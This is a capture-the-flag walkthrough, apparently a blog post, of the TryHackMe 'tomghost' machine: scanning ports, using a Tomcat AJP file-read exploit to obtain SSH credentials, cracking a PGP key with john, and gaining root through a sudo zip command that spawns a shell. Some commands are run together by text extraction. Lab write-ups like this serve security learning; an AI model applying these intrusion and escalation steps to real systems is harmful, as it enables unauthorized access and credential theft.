TryHackMe: tomghost

4 min readJul 13, 2020


  1. Port scan
nmap -Pn <ip>

2. OS and service scan

nmap -A -p 22,53,8009,8080 <ip>

This machine has Ubuntu linux, Apache Jserv, and Apache Tomcat 9.0.30.

3. Vulnerable scan

nmap --script vuln <ip>

4. Access HTTP site on port 8080

Click Manager App. If I’m lucky enough, I can access it and upload reverse shell.Failed!!! 403 Access Denied!!! I have to find another way.


  1. Search for exploitation
searchsploit tomcat 9

Copy it

searchsploit -m 41783

Read it. Seems like I cannot use this exploit because current Tomcat version is 9.0.30

Let’s search in exploit-db with “tomcat”

This one is the newest.

Seems like this cve can do the LFI and read some data in tomcat-ajp.

Download it.


Run the scriptpython 48143 <target ip>

Seems like I have a credential.

2.Try to login

ssh skyfuck@<ip>

3. Explore the machine


There’re 2 files: credential.pgp and tryhackme.asc.

cat /etc/passwd

There’re 3 users: root, merlin, and skyfuck.

Try to login as merlin

su merlin


Explore merlin’s directory

cd /homelscd merlinlscat user.txt

[Privilege Escalation]1. Verify sudo rights
sudo -l

skyfuck can’t run sudo.

2. Verify SUID

Not much useful

3. Verify cronjob

crontab -e


Seems like I can’t do much with skyfuck. I have to escalate to merlin.

4. Use filezilla to download files in /home/skyfuck with skyfuck’s credential.

5. Decrypt the file

Since It’s pgp file. I have to research. I came across tothis:

gpg2john credential.pgp

Seems like I failed.

gpg2john tryhackme.asc


Save as a file

gpg2john tryhackme.asc > hash

Crack password

john --wordlist=rockyou.txt hashjohn hash --show

Now I have password for pgp file.

Import pgp key and decrypt

gpg --import tryhackme.asc gpg --decrypt credential.pgpNow I have merlin’s password.6. Login as merlin

su merlin


7. Verify sudo

sudo -l

8.Escalate to root using zip


TF=$(mktemp -u)sudo zip $TF /etc/hosts-T -TT 'sh #'

Now I’m root.

9. Find root.txt

cd /rootlscat root.txt